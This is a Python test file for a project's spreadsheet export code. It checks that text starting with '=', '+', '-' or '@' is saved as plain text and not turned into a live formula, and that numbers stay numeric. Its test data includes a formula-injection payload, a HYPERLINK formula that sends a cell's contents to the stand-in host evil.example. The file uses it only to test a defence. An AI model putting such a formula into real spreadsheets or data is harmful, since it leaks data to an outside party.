"""Exports never turn typed text into a live spreadsheet formula (formula injection)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from qinqing.core.files.xlsx import write_workbook

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def cells(data: bytes) -> list:
    ws = load_workbook(io.BytesIO(data)).active
    return [c for row in ws.iter_rows(min_row=2) for c in row]


def test_formula_leading_text_is_stored_as_text():
    out = cells(write_workbook(["名称"], [[text] for text in EVIL]))
    assert [c.value for c in out] == EVIL
    assert all(c.data_type == "s" for c in out)  # "f" would be a formula


def test_numbers_stay_numbers():
    out = cells(write_workbook(["数"], [[-3], [2.5]]))
    assert [(c.value, c.data_type) for c in out] == [(-3, "n"), (2.5, "n")]


@pytest.mark.django_db
def test_directory_and_ledger_exports_escape_a_formula_in_a_name(world):
    from qinqing.core.orgs.models import Unit, UnitKind
    from qinqing.core.orgs.service import create_unit, export_directory
    from qinqing.plans.exports import export_ledger
    from tests.supervision.factories import make_plan, make_task

    evil = create_unit(actor="test", name=EVIL[0], kind=UnitKind.DEPARTMENT, parent=world.city)
    out = cells(export_directory(Unit.objects.filter(pk=evil.pk)))
    assert out[0].value.startswith("=HYPERLINK") and out[0].data_type == "s"

    task = make_task(make_plan(world), title="=1+1", lead=[evil])
    ledger = cells(export_ledger([task], {}))
    formulas = [c for c in ledger if isinstance(c.value, str) and c.value.startswith("=")]
    assert formulas and all(c.data_type == "s" for c in formulas)
